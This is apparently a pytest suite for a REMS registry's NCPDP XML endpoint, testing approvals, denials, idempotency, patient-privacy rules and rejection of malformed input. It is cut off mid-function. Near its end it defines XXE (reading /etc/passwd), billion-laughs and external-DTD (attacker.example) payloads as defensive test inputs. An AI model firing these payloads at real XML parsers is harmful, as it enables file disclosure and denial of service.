"""NCPDP SCRIPT REMS transactions at POST /api/ncpdp/rems (API.md "Standards endpoints"; GATE-1, GATE-2,
GATE-5, ID-4).

Complete messages in, and assertions on the answer's elements: REMSRequest -> REMSResponse Approved or
Denied (decided by the same gate as the JSON endpoint, stored as the same decision), REMSInitiationRequest
-> REMSInitiationResponse Open or Closed, message-level idempotency, and hostile or broken XML answered
with a well-formed NCPDP Error message (never a 500).
"""

from __future__ import annotations

import datetime as dt
import re
import threading

import defusedxml.ElementTree as SafeET
import pytest
from django.db import connection
from django.utils import timezone

from registry.api.refusals import PUBLIC_DETAIL
from registry.errors import ErrorCode, ReasonCode
from registry.identifiers import new_registry_id
from registry.models import AuditEvent, Decision, DecisionKind, DispenseAuthorization, NcpdpMessage
from registry.services.certification import participant_deactivate, participant_suspend
from registry.services.enrollment import screening_record
from registry.standards import REASON_CATEGORY

from .conftest import client_with_key, participant_persona
from .factories import FacilityFactory, PharmacyFactory
from .gate_helpers import (
    DAY0,
    add_contraindication,
    authorization_body,
    authorized_patient,
    enroll_patient,
    frozen,
    moment,
    plan_course,
)
from .ncpdp_helpers import (
    answer,
    envelope,
    error_of,
    initiation_request,
    rems_request,
    send,
    text,
    texts,
    without_message_identity,
)

pytestmark = pytest.mark.django_db

NOW = moment(DAY0)
AUTHORIZATIONS = "/api/v1/dispense-authorizations"


@pytest.fixture
def clock():
    with frozen(DAY0) as traveller:
        yield traveller


@pytest.fixture
def patient(clock, prescriber):
    """Authorized on 2026-03-02, course 1 planned to start that day."""
    patient = authorized_patient(prescriber)
    plan_course(prescriber, patient, start=DAY0)
    return patient


def _request(pharmacy, patient, prescriber, facility, **kw):
    kw.setdefault("prescriber_npi", prescriber.participant.npi)
    kw.setdefault("facility_npi", facility.participant.npi)
    return rems_request(pharmacy=pharmacy.participant, patient=patient, **kw)


def dispense_decisions():
    return Decision.objects.filter(kind=DecisionKind.DISPENSE_AUTHORIZATION)


def _nothing_stored():
    assert dispense_decisions().count() == 0
    assert NcpdpMessage.objects.count() == 0


# --- REMSRequest -> REMSResponse (GATE-1, GATE-2) -----------------------------------------------------------


def test_rems_request_approved_carries_case_number_and_period_gate_1_gate_2(
    patient, prescriber, facility, pharmacy
):
    """GATE-1/2: Approved with REMSCaseID (the stored decision), the single-use authorization number and
    its 7-day AuthorizationPeriod; the answer relates to the request's MessageID and goes back to its sender."""
    response = send(pharmacy, _request(pharmacy, patient, prescriber, facility, message_id="RX-42"))

    assert response.status_code == 200
    root = answer(response)
    authorization = DispenseAuthorization.objects.get()
    decision = dispense_decisions().get()
    assert text(root, "Header/RelatesToMessageID") == "RX-42"
    assert text(root, "Header/To") == pharmacy.participant.ncpdp_id
    assert text(root, "Header/From") == "LEMTRADA-REMS"
    assert text(root, "Header/MessageID") not in ("", None, "RX-42")
    approved = root.find("Body/REMSResponse/Response/ResponseStatus/Approved")
    assert approved is not None
    assert root.find("Body/REMSResponse/Response/ResponseStatus/Denied") is None
    assert text(approved, "REMSCaseID") == str(decision.pk)
    assert text(approved, "REMSAuthorizationNumber") == authorization.number
    assert text(approved, "AuthorizationPeriod/EffectiveDate/DateTime") == "2026-03-02T15:00:00Z"
    assert text(approved, "AuthorizationPeriod/ExpirationDate/DateTime") == "2026-03-09T15:00:00Z"
    assert authorization.doses_authorized == 5
    assert authorization.pharmacy_id == pharmacy.participant.pk
    assert authorization.facility_id == facility.participant.pk
    assert decision.kind == DecisionKind.DISPENSE_AUTHORIZATION
    assert decision.outcome == "approved"
    message = NcpdpMessage.objects.get()
    assert (message.sender, message.message_id, message.transaction) == (
        pharmacy.user,
        "RX-42",
        "REMSRequest",
    )
    assert message.decision == decision
    assert message.patient == patient
    assert message.response_message_id == text(root, "Header/MessageID")
    assert message.response_xml.encode() == response.content
    event = AuditEvent.objects.get(action="ncpdp.receive")
    assert event.subject_id == message.pk
    assert event.changes["decision"] == str(decision.pk)
    assert event.changes["message_id"] == "RX-42"


def test_rems_request_names_facility_and_prescriber_by_enrollment_id(patient, prescriber, facility, pharmacy):
    """REMSHealthcareSettingEnrollmentID and REMSHealthcareProviderEnrollmentID (our participant ids)
    stand for the NPIs; the gate's stored inputs are the NPIs either way."""
    body = rems_request(
        pharmacy=pharmacy.participant,
        patient=patient,
        prescriber_enrollment_id=str(prescriber.participant.pk),
        facility_enrollment_id=str(facility.participant.pk),
        doses=2,
    )
    response = send(pharmacy, body)

    root = answer(response)
    assert text(root, "Body/REMSResponse/Response/ResponseStatus/Approved/REMSAuthorizationNumber")
    decision = dispense_decisions().get()
    assert decision.inputs["facility_npi"] == facility.participant.npi
    assert decision.inputs["prescriber_npi"] == prescriber.participant.npi
    assert decision.inputs["doses_requested"] == 2


def test_unknown_enrollment_id_is_refused_before_the_gate(patient, prescriber, pharmacy):
    body = rems_request(
        pharmacy=pharmacy.participant,
        patient=patient,
        prescriber_npi=prescriber.participant.npi,
        facility_enrollment_id="0b5e0a2e-6a43-4c55-9d0e-2f4b8f5d7c11",
    )
    response = send(pharmacy, body)

    assert response.status_code == 400
    assert error_of(response) == ("900", "unknown_enrollment_id")
    _nothing_stored()


def test_rems_request_denied_names_every_reason_and_no_clinical_fact_gate_1(
    clock, prescriber, other_prescriber, pharmacy
):
    """GATE-1: Denied with one DeniedReasonCode (REMS category) per unmet requirement, our precise codes in
    REMSNote in the same order; API.md: no contraindication kind, no patient status, no treatment dates."""
    patient = authorized_patient(prescriber)
    add_contraindication(patient, prescriber.user, on=DAY0, kind="hiv")
    pending_facility = FacilityFactory()  # registered, not certified

    body = rems_request(
        pharmacy=pharmacy.participant,
        patient=patient,
        prescriber_npi=other_prescriber.participant.npi,
        facility_npi=pending_facility.npi,
        doses=3,
    )
    response = send(pharmacy, body)

    assert response.status_code == 200
    root = answer(response)
    denied = root.find("Body/REMSResponse/Response/ResponseStatus/Denied")
    assert denied is not None
    assert root.find("Body/REMSResponse/Response/ResponseStatus/Approved") is None
    decision = dispense_decisions().get()
    assert decision.outcome == "denied"
    codes = [reason["code"] for reason in decision.reasons]
    assert codes == [
        "facility_not_certified",
        "prescriber_not_of_record",
        "contraindication_recorded",
        "no_open_course",
    ]
    assert texts(denied, "DeniedReasonCode") == ["PHARMACY", "PRESCRIBER", "PATIENT", "CASE"]
    assert text(denied, "REMSCaseID") == str(decision.pk)
    note = text(denied, "REMSNote") or ""
    assert [m for m in re.findall(r"([a-z_]+): ", note)] == codes
    for clinical in ("hiv", "HIV", "authorized,", "suspended", "2026", "1985", "Contraindication recorded:"):
        assert clinical not in note
    assert b"hiv" not in response.content.lower()
    assert DispenseAuthorization.objects.count() == 0


def test_uncertified_pharmacy_is_told_only_that_gate_1(patient, prescriber, facility, admin):
    """API.md: when the calling pharmacy is itself not certified (here pending), nothing about the patient
    is answered (here the date of birth does not even match)."""
    persona = participant_persona(PharmacyFactory())

    response = send(persona, _request(persona, patient, prescriber, facility, dob="1990-01-01"))

    root = answer(response)
    denied = root.find("Body/REMSResponse/Response/ResponseStatus/Denied")
    assert texts(denied, "DeniedReasonCode") == ["PHARMACY"]
    assert text(denied, "REMSNote") == "pharmacy_not_certified: The pharmacy is not certified."
    # The gate still stored its full decision (GATE-5); only the answer is minimal.
    assert dispense_decisions().get().reasons[0]["code"] == "pharmacy_not_certified"


def test_suspended_pharmacy_gets_an_error_message_participant_suspended_act_5(
    patient, prescriber, facility, admin
):
    """ACT-5: a suspended pharmacy's messages are refused before the gate, as its JSON requests are (403
    `participant_suspended`), in NCPDP's one format; nothing is evaluated or stored."""
    suspended = PharmacyFactory(certified=True)
    persona = participant_persona(suspended)
    participant_suspend(participant=suspended, actor=admin.user, reason="audit", now=NOW)

    response = send(persona, _request(persona, patient, prescriber, facility))

    assert response.status_code == 403
    assert error_of(response)[1] == "participant_suspended"
    assert not dispense_decisions().exists()
    assert not NcpdpMessage.objects.exists()


def test_deactivated_pharmacy_key_gets_an_error_message_key_inactive_act_5(
    patient, prescriber, facility, admin
):
    """ACT-5: a deactivated pharmacy's key answers 401 `key_inactive` here too, as an NCPDP `Error`."""
    gone = PharmacyFactory(certified=True)
    persona = participant_persona(gone)
    participant_deactivate(participant=gone, actor=admin.user, reason="left the program", now=NOW)

    response = send(persona, _request(persona, patient, prescriber, facility))

    assert response.status_code == 401
    assert error_of(response)[1] == "key_inactive"
    assert not NcpdpMessage.objects.exists()


def test_ncpdp_decision_is_the_json_decision_gate_5(patient, prescriber, facility, pharmacy):
    """GATE-5: the same request through NCPDP and through JSON is the same gate call: the stored decisions
    agree in kind, outcome, patient, inputs, every requirement, reasons and settings."""
    send(pharmacy, _request(pharmacy, patient, prescriber, facility, doses=2))
    json_response = pharmacy.post(AUTHORIZATIONS, authorization_body(patient, prescriber, facility, doses=2))
    assert json_response.status_code == 201
    assert json_response.json()["decision"] == "approved"

    ncpdp_decision = NcpdpMessage.objects.get().decision
    json_decision = dispense_decisions().exclude(pk=ncpdp_decision.pk).get()
    for field in (
        "kind",
        "outcome",
        "patient_id",
        "actor_id",
        "inputs",
        "requirements",
        "reasons",
        "program_settings",
    ):
        assert getattr(ncpdp_decision, field) == getattr(json_decision, field), field


def test_ncpdp_denial_is_the_json_denial_gate_5(clock, prescriber, other_prescriber, facility, pharmacy):
    patient = authorized_patient(prescriber)  # no course planned
    add_contraindication(patient, prescriber.user, on=DAY0)
    body = rems_request(
        pharmacy=pharmacy.participant,
        patient=patient,
        prescriber_npi=other_prescriber.participant.npi,
        facility_npi=facility.participant.npi,
        doses=4,
    )
    send(pharmacy, body)
    pharmacy.post(
        AUTHORIZATIONS,
        authorization_body(patient, other_prescriber, facility, doses=4),
    )

    ncpdp_decision = NcpdpMessage.objects.get().decision
    json_decision = dispense_decisions().exclude(pk=ncpdp_decision.pk).get()
    assert ncpdp_decision.outcome == "denied"
    for field in (
        "kind",
        "outcome",
        "patient_id",
        "actor_id",
        "inputs",
        "requirements",
        "reasons",
        "program_settings",
    ):
        assert getattr(ncpdp_decision, field) == getattr(json_decision, field), field


def test_ncpdp_notes_are_the_json_texts_a_pharmacy_reads(clock, prescriber, facility, pharmacy):
    """Minimum necessary disclosure (API.md): the REMSNote of a denial is, reason by reason, the code and
    detail the JSON endpoint answers the same pharmacy (registry/api/refusals.py): neutral texts for every
    requirement about the patient (here a contraindication and a withdrawn attestation, GATE-4), never the
    stored details, which name them."""
    patient = authorized_patient(prescriber)
    plan_course(prescriber, patient, start=DAY0)
    add_contraindication(patient, prescriber.user, on=DAY0, kind="hiv")
    clock.shift(dt.timedelta(minutes=5))  # the newer screening is the one that counts
    screening_record(
        patient=patient,
        actor=prescriber.user,
        data={
            "hiv_negative": False,
            "no_active_infection": True,
            "tb_screened_on": DAY0 - dt.timedelta(days=30),
            "vaccinations_completed_on": DAY0 - dt.timedelta(days=60),
        },
        now=NOW + dt.timedelta(minutes=5),
    )
    response = send(pharmacy, _request(pharmacy, patient, prescriber, facility, doses=2))
    root = answer(response)
    json_reasons = pharmacy.post(
        AUTHORIZATIONS, authorization_body(patient, prescriber, facility, doses=2)
    ).json()["reasons"]

    denied = root.find("Body/REMSResponse/Response/ResponseStatus/Denied")
    assert [r["code"] for r in json_reasons] == [
        "contraindication_recorded",
        "attestation_withdrawn",
        "screening_incomplete",
    ]
    assert texts(denied, "DeniedReasonCode") == ["PATIENT", "PATIENT", "PATIENT"]
    hold = "Treatment is on hold for this patient; the prescriber of record has the details."
    pending = "A pre-treatment requirement is not met; the prescriber of record has the details."
    assert text(denied, "REMSNote") == " ".join(f"{r['code']}: {r['detail']}" for r in json_reasons)
    assert text(denied, "REMSNote") == (
        f"contraindication_recorded: {hold} attestation_withdrawn: {hold} screening_incomplete: {pending}"
    )
    stored = {r["code"]: r["detail"] for r in NcpdpMessage.objects.get().decision.reasons}
    assert stored["contraindication_recorded"] == "Contraindication recorded: hiv."
    for clinical in (b"hiv", b"HIV", b"withdraws", b"Contraindication recorded"):
        assert clinical not in response.content


def test_initiation_notes_name_no_clinical_fact(clock, prescriber, pharmacy):
    """The open requirements of a REMSInitiationResponse carry the same neutral texts: a pharmacy learns
    that treatment is on hold, not why."""
    patient = authorized_patient(prescriber)
    plan_course(prescriber, patient, start=DAY0)
    add_contraindication(patient, prescriber.user, on=DAY0, kind="hiv")
    body = initiation_request(
        pharmacy=pharmacy.participant,
        prescriber_npi=prescriber.participant.npi,
        rems_patient_id=patient.rems_patient_id,
        dob=patient.date_of_birth,
    )
    response = send(pharmacy, body)

    notes = texts(
        answer(response), "Body/REMSInitiationResponse/Response/ResponseStatus/Open/Requirement/REMSNote"
    )
    assert notes == [
        "contraindication_recorded: Treatment is on hold for this patient; the prescriber of record has "
        "the details."
    ]
    assert b"hiv" not in response.content.lower()


def test_every_reason_code_has_a_rems_category_and_a_public_text():
    """Each of our reason codes maps onto a patient, prescriber, pharmacy or case requirement, and has the
    neutral text a pharmacy or facility reads in its note (registry/api/refusals.py)."""
    assert set(ReasonCode) <= set(REASON_CATEGORY)
    assert set(REASON_CATEGORY.values()) == {"PATIENT", "PRESCRIBER", "PHARMACY", "CASE"}
    assert set(ReasonCode) <= set(PUBLIC_DETAIL)


def test_rems_request_for_unknown_patient_is_denied_patient_not_found_id_4(
    prescriber, facility, pharmacy, clock
):
    body = rems_request(
        pharmacy=pharmacy.participant,
        rems_patient_id=new_registry_id(),
        dob="1985-04-12",
        prescriber_npi=prescriber.participant.npi,
        facility_npi=facility.participant.npi,
    )
    root = answer(send(pharmacy, body))

    denied = root.find("Body/REMSResponse/Response/ResponseStatus/Denied")
    assert texts(denied, "DeniedReasonCode") == ["PATIENT"]
    assert (
        text(denied, "REMSNote")
        == "patient_not_found: No patient matches this registry ID and date of birth."
    )


# --- Idempotency by message -----------------------------------------------------------------------------------


def test_repeated_message_id_replays_the_first_answer(patient, prescriber, facility, pharmacy):
    """A retransmission (same sender, same MessageID, same body) answers the first answer byte for byte
    and runs nothing: one decision, one authorization number."""
    body = _request(pharmacy, patient, prescriber, facility, message_id="RX-7")
    first = send(pharmacy, body)
    second = send(pharmacy, body)

    assert second.status_code == 200
    assert second.content == first.content
    assert second["Idempotent-Replayed"] == "true"
    assert "Idempotent-Replayed" not in first
    assert text(answer(second), "Header/RelatesToMessageID") == "RX-7"
    assert dispense_decisions().count() == 1
    assert DispenseAuthorization.objects.count() == 1
    assert NcpdpMessage.objects.count() == 1


def test_message_id_reused_for_another_message_is_refused(patient, prescriber, facility, pharmacy):
    send(pharmacy, _request(pharmacy, patient, prescriber, facility, message_id="RX-8", doses=2))
    response = send(pharmacy, _request(pharmacy, patient, prescriber, facility, message_id="RX-8", doses=3))

    assert response.status_code == 409
    assert error_of(response) == ("900", "message_id_reused")
    assert text(answer(response), "Header/RelatesToMessageID") == "RX-8"
    assert dispense_decisions().count() == 1


def test_same_message_id_from_another_sender_is_another_message(patient, prescriber, facility, pharmacy):
    other = participant_persona(PharmacyFactory(certified=True))
    send(pharmacy, _request(pharmacy, patient, prescriber, facility, message_id="RX-9", doses=2))
    response = send(other, _request(other, patient, prescriber, facility, message_id="RX-9", doses=2))

    assert text(
        answer(response), "Body/REMSResponse/Response/ResponseStatus/Approved/REMSAuthorizationNumber"
    )
    assert dispense_decisions().count() == 2
    assert NcpdpMessage.objects.filter(message_id="RX-9").count() == 2


def test_refused_message_is_not_stored_so_a_corrected_one_may_reuse_its_id(
    patient, prescriber, facility, pharmacy
):
    broken = _request(pharmacy, patient, prescriber, facility, message_id="RX-10", doses=9)
    assert send(pharmacy, broken).status_code == 400
    fixed = send(pharmacy, _request(pharmacy, patient, prescriber, facility, message_id="RX-10", doses=2))

    assert text(answer(fixed), "Body/REMSResponse/Response/ResponseStatus/Approved/REMSAuthorizationNumber")


# --- REMSInitiationRequest -> REMSInitiationResponse ------------------------------------------------------


def test_initiation_names_registry_id_and_open_requirements(clock, prescriber, pharmacy):
    """Matched by name, date of birth and sex among the prescriber's patients: Open with REMSPatientID and
    the open requirements as reason codes (here: no course planned yet)."""
    patient = authorized_patient(prescriber, first_name="Pat")
    body = initiation_request(
        pharmacy=pharmacy.participant,
        prescriber_npi=prescriber.participant.npi,
        last="IENT",
        message_id="IN-1",
    )
    response = send(pharmacy, body)

    assert response.status_code == 200
    root = answer(response)
    assert text(root, "Header/RelatesToMessageID") == "IN-1"
    initiation = root.find("Body/REMSInitiationResponse")
    assert text(initiation, "Patient/HumanPatient/Identification/REMSPatientID") == patient.rems_patient_id
    open_status = initiation.find("Response/ResponseStatus/Open")
    assert open_status is not None
    assert texts(open_status, "Requirement/ReasonCode") == ["CASE"]
    assert texts(open_status, "Requirement/REMSNote") == [
        "no_open_course: The patient has no course open for dosing."
    ]
    assert dispense_decisions().count() == 0  # read-only: not a gate check
    message = NcpdpMessage.objects.get()
    assert (message.transaction, message.patient, message.decision) == (
        "REMSInitiationRequest",
        patient,
        None,
    )


def test_initiation_with_nothing_open_answers_an_empty_open(patient, prescriber, pharmacy):
    body = initiation_request(
        pharmacy=pharmacy.participant,
        prescriber_npi=prescriber.participant.npi,
        rems_patient_id=patient.rems_patient_id,
        dob=patient.date_of_birth,
    )
    root = answer(send(pharmacy, body))

    open_status = root.find("Body/REMSInitiationResponse/Response/ResponseStatus/Open")
    assert open_status is not None
    assert list(open_status) == []


def test_initiation_for_enrolled_patient_lists_baseline_as_open(clock, prescriber, pharmacy):
    enroll_patient(prescriber, first_name="Pat")
    body = initiation_request(pharmacy=pharmacy.participant, prescriber_npi=prescriber.participant.npi)
    root = answer(send(pharmacy, body))

    notes = texts(root, "Body/REMSInitiationResponse/Response/ResponseStatus/Open/Requirement/REMSNote")
    assert [n.split(":")[0] for n in notes] == [
        "baseline_incomplete",
        "screening_incomplete",
        "patient_not_authorized",
        "no_open_course",
        "pre_course_labs_stale",
    ]


def test_unknown_patient_and_date_of_birth_mismatch_answer_identically_id_4(clock, prescriber, pharmacy):
    """ID-4: an unknown registry ID and a date-of-birth mismatch get the same Closed answer (only the
    answer's own MessageID and SentTime differ), as do unmatched demographics."""
    patient = authorized_patient(prescriber, first_name="Pat")
    common = {
        "pharmacy": pharmacy.participant,
        "prescriber_npi": prescriber.participant.npi,
        "message_id": "IN-2",
    }
    unknown = send(
        pharmacy, initiation_request(rems_patient_id=new_registry_id(), dob=patient.date_of_birth, **common)
    )
    NcpdpMessage.objects.all().delete()
    mismatch = send(
        pharmacy, initiation_request(rems_patient_id=patient.rems_patient_id, dob="1985-04-13", **common)
    )
    NcpdpMessage.objects.all().delete()
    demographics = send(pharmacy, initiation_request(dob="1985-04-13", **common))

    assert unknown.status_code == mismatch.status_code == demographics.status_code == 200
    assert without_message_identity(unknown.content) == without_message_identity(mismatch.content)
    assert without_message_identity(unknown.content) == without_message_identity(demographics.content)
    root = answer(mismatch)
    closed = root.find("Body/REMSInitiationResponse/Response/ResponseStatus/Closed")
    assert text(closed, "ReasonCode") == "PATIENT"
    assert (
        text(closed, "REMSNote")
        == "patient_not_found: No patient matches this registry ID and date of birth."
    )
    assert root.find("Body/REMSInitiationResponse/Patient") is None
    assert patient.rems_patient_id.encode() not in mismatch.content


def test_initiation_shares_the_date_of_birth_lock_id_4(clock, prescriber, pharmacy):
    """ID-4: five mismatched dates of birth for one registry ID (here through NCPDP initiations) lock that
    pharmacy out of it on every channel: the right date then answers exactly like an unknown ID."""
    patient = authorized_patient(prescriber, first_name="Pat")
    common = {"pharmacy": pharmacy.participant, "prescriber_npi": prescriber.participant.npi}
    for attempt in range(5):
        wrong = patient.date_of_birth - dt.timedelta(days=attempt + 1)
        send(
            pharmacy,
            initiation_request(
                rems_patient_id=patient.rems_patient_id, dob=wrong, message_id=f"G-{attempt}", **common
            ),
        )
    unknown = send(
        pharmacy,
        initiation_request(
            rems_patient_id=new_registry_id(), dob=patient.date_of_birth, message_id="X", **common
        ),
    )

    NcpdpMessage.objects.filter(message_id="X").delete()  # the same MessageID again: equal answers

    locked = send(
        pharmacy,
        initiation_request(
            rems_patient_id=patient.rems_patient_id, dob=patient.date_of_birth, message_id="X", **common
        ),
    )

    assert locked.status_code == 200
    assert without_message_identity(locked.content) == without_message_identity(unknown.content)
    assert AuditEvent.objects.filter(action="dob_lookup.lock").count() == 1
    json_answer = pharmacy.post(
        "/api/v1/dispense-authorizations",
        {
            "rems_patient_id": patient.rems_patient_id,
            "date_of_birth": patient.date_of_birth.isoformat(),
            "prescriber_npi": prescriber.participant.npi,
            "facility_npi": "1993999998",
            "doses_requested": 1,
        },
    ).json()
    assert "patient_not_found" in [r["code"] for r in json_answer["reasons"]]


def test_initiation_matches_only_the_named_prescribers_patients(
    clock, prescriber, other_prescriber, pharmacy
):
    """A pharmacy cannot look patients up registry-wide by demographics: the prescription's prescriber
    must be the patient's prescriber of record."""
    authorized_patient(prescriber, first_name="Pat")
    body = initiation_request(pharmacy=pharmacy.participant, prescriber_npi=other_prescriber.participant.npi)
    root = answer(send(pharmacy, body))

    closed = root.find("Body/REMSInitiationResponse/Response/ResponseStatus/Closed")
    assert (
        text(closed, "REMSNote")
        == "patient_not_found: No patient matches this registry ID and date of birth."
    )


def test_initiation_matches_names_as_enrollment_compares_them_ACT_6(clock, prescriber, pharmacy):
    """A pharmacy system that keeps names in ASCII, upper case, without punctuation still finds the
    patient enrolled as "Zoë Ødegård-Łuc" (the match key of enrollment's duplicate check); a name of
    punctuation alone names nobody."""
    patient = authorized_patient(prescriber, first_name="Zoë", last_name="Ødegård-Łuc")
    root = answer(
        send(
            pharmacy,
            initiation_request(
                pharmacy=pharmacy.participant,
                prescriber_npi=prescriber.participant.npi,
                first="ZOE",
                last="ODEGARD LUC",
                message_id="IN-ASCII",
            ),
        )
    )
    assert text(root, "Body/REMSInitiationResponse/Patient/HumanPatient/Identification/REMSPatientID") == (
        patient.rems_patient_id
    )
    nobody = answer(
        send(
            pharmacy,
            initiation_request(
                pharmacy=pharmacy.participant,
                prescriber_npi=prescriber.participant.npi,
                first="-",
                last="'",
                message_id="IN-PUNCT",
            ),
        )
    )
    assert nobody.find("Body/REMSInitiationResponse/Patient") is None


def test_initiation_from_uncertified_pharmacy_learns_nothing(clock, prescriber):
    authorized_patient(prescriber, first_name="Pat")
    pending = participant_persona(PharmacyFactory())  # registered, not certified
    root = answer(
        send(
            pending,
            initiation_request(pharmacy=pending.participant, prescriber_npi=prescriber.participant.npi),
        )
    )

    closed = root.find("Body/REMSInitiationResponse/Response/ResponseStatus/Closed")
    assert text(closed, "ReasonCode") == "PHARMACY"
    assert text(closed, "REMSNote") == "pharmacy_not_certified: The pharmacy is not certified."
    assert root.find("Body/REMSInitiationResponse/Patient") is None


def test_facility_initiation_checks_its_own_certification(clock, prescriber, facility):
    patient = authorized_patient(prescriber, first_name="Pat")
    root = answer(
        send(facility, initiation_request(pharmacy=None, prescriber_npi=prescriber.participant.npi))
    )
    assert text(root, "Body/REMSInitiationResponse/Patient/HumanPatient/Identification/REMSPatientID") == (
        patient.rems_patient_id
    )

    pending = participant_persona(FacilityFactory())
    root = answer(send(pending, initiation_request(pharmacy=None, prescriber_npi=prescriber.participant.npi)))
    assert text(root, "Body/REMSInitiationResponse/Response/ResponseStatus/Closed/ReasonCode") == "PHARMACY"
    assert text(root, "Body/REMSInitiationResponse/Response/ResponseStatus/Closed/REMSNote") == (
        "facility_not_certified: The facility is not certified."
    )


# --- Broken and hostile messages: a well-formed Error, never a 500 -----------------------------------------


@pytest.mark.parametrize(
    ("body", "status", "description_code"),
    [
        (b"<Message><Header><MessageID>1</MessageID>", 400, "malformed_xml"),
        (b"not xml at all", 400, "malformed_xml"),
        (b"", 400, "malformed_xml"),
        (b'<?xml version="1.0"?><NewRx><Header/></NewRx>', 400, "wrong_root"),
        (b'<Message xmlns="urn:other"><Header/></Message>', 400, "wrong_root"),
        (b"<Message><Body/></Message>", 400, "missing_element"),
        (envelope("<NewRx/>"), 400, "unsupported_transaction"),
        (envelope("").replace(b"<MessageID>MSG-0001</MessageID>", b""), 400, "missing_element"),
        (envelope("").replace(b"MSG-0001", b"has spaces in it"), 400, "invalid_element"),
        (envelope("").replace(b"2026-03-02T15:00:00Z", b"yesterday"), 400, "invalid_element"),
    ],
)
def test_broken_messages_answer_an_error(pharmacy, body, status, description_code):
    response = send(pharmacy, body)

    assert response.status_code == status
    assert error_of(response) == ("900", description_code)
    assert ErrorCode(description_code).http_status == status  # every DescriptionCode is an ErrorCode
    _nothing_stored()


def test_missing_element_names_its_path(patient, prescriber, facility, pharmacy):
    body = _request(pharmacy, patient, prescriber, facility, doses=None, message_id="RX-11")
    response = send(pharmacy, body)

    assert response.status_code == 400
    root = answer(response)
    assert error_of(response) == ("900", "missing_element")
    assert text(root, "Body/Error/Description") == (
        "Missing element Message/Body/REMSRequest/MedicationPrescribed/Quantity/Value."
    )
    assert text(root, "Header/RelatesToMessageID") == "RX-11"
    _nothing_stored()


@pytest.mark.parametrize(
    ("change", "description"),
    [
        ({"doses": 6}, "Message/Body/REMSRequest/MedicationPrescribed/Quantity/Value: "),
        (
            {"doses": "two"},
            "Message/Body/REMSRequest/MedicationPrescribed/Quantity/Value must be a whole number",
        ),
        (
            {"dob": "12/04/1985"},
            "Message/Body/REMSRequest/Patient/HumanPatient/DateOfBirth/Date must be a date",
        ),
    ],
)
def test_invalid_elements_are_refused_with_their_path(
    patient, prescriber, facility, pharmacy, change, description
):
    response = send(pharmacy, _request(pharmacy, patient, prescriber, facility, **change))

    assert response.status_code == 400
    assert error_of(response) == ("900", "invalid_element")
    assert (text(answer(response), "Body/Error/Description") or "").startswith(description)
    _nothing_stored()


def test_medication_outside_the_program_is_refused(patient, prescriber, facility, pharmacy):
    response = send(pharmacy, _request(pharmacy, patient, prescriber, facility, ndc="00002-8215-01"))

    assert response.status_code == 400
    assert error_of(response) == ("900", "medication_not_in_program")
    _nothing_stored()


def test_hyphenated_ndc_is_recognised(patient, prescriber, facility, pharmacy):
    response = send(pharmacy, _request(pharmacy, patient, prescriber, facility, ndc="58468-0200-1"))
    assert text(answer(response), "Body/REMSResponse/Response/ResponseStatus/Approved/REMSCaseID")


def test_message_naming_another_pharmacy_is_refused(patient, prescriber, facility, pharmacy):
    other = PharmacyFactory(certified=True)
    body = rems_request(
        pharmacy=other,
        patient=patient,
        prescriber_npi=prescriber.participant.npi,
        facility_npi=facility.participant.npi,
    )
    response = send(pharmacy, body)

    assert response.status_code == 403
    assert error_of(response) == ("601", "pharmacy_mismatch")
    _nothing_stored()


def test_oversized_body_is_refused_before_parsing(settings, pharmacy):
    settings.NCPDP_MAX_BODY_BYTES = 2048
    body = envelope("<REMSRequest>" + "<Padding>x</Padding>" * 200 + "</REMSRequest>")
    assert len(body) > 2048
    response = send(pharmacy, body)

    assert response.status_code == 413
    assert error_of(response) == ("900", "payload_too_large")
    _nothing_stored()


def test_default_size_limit_is_64_kib(pharmacy):
    response = send(pharmacy, b"<Message>" + b" " * (64 * 1024) + b"</Message>")
    assert response.status_code == 413
    assert error_of(response) == ("900", "payload_too_large")


EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Message [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Message><Header><MessageID>&secret;</MessageID><SentTime>2026-03-02T15:00:00Z</SentTime></Header><Body/></Message>"""

ENTITY_BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Message><Header><MessageID>&lol9;</MessageID></Header></Message>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Message SYSTEM "http://attacker.example/evil.dtd">
<Message><Header/></Message>"""


@pytest.mark.parametrize(
    "body", [EXTERNAL_ENTITY, ENTITY_BOMB, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"]
)
def test_entities_and_dtds_are_refused(pharmacy, body):
    """External entities, entity expansion and external DTDs never reach resolution: refused outright."""
    response = send(pharmacy, body)

    assert response.status_code == 400
    assert error_of(response) == ("900", "xml_declarations_refused")
    assert b"root:" not in response.content
    assert b"lollol" not in response.content
    _nothing_stored()


def test_json_body_is_unsupported_media_type(pharmacy):
    response = pharmacy.client.post("/api/ncpdp/rems", data={"a": 1}, format="json")

    assert response.status_code == 415
    assert error_of(response) == ("900", "unsupported_media_type")


def test_text_xml_is_accepted(patient, prescriber, facility, pharmacy):
    response = send(pharmacy, _request(pharmacy, patient, prescriber, facility), content_type="text/xml")
    assert text(answer(response), "Body/REMSResponse/Response/ResponseStatus/Approved/REMSCaseID")


def test_answer_is_xml_whatever_accept_says(patient, prescriber, facility, pharmacy):
    response = pharmacy.client.post(
        "/api/ncpdp/rems",
        data=_request(pharmacy, patient, prescriber, facility),
        content_type="application/xml",
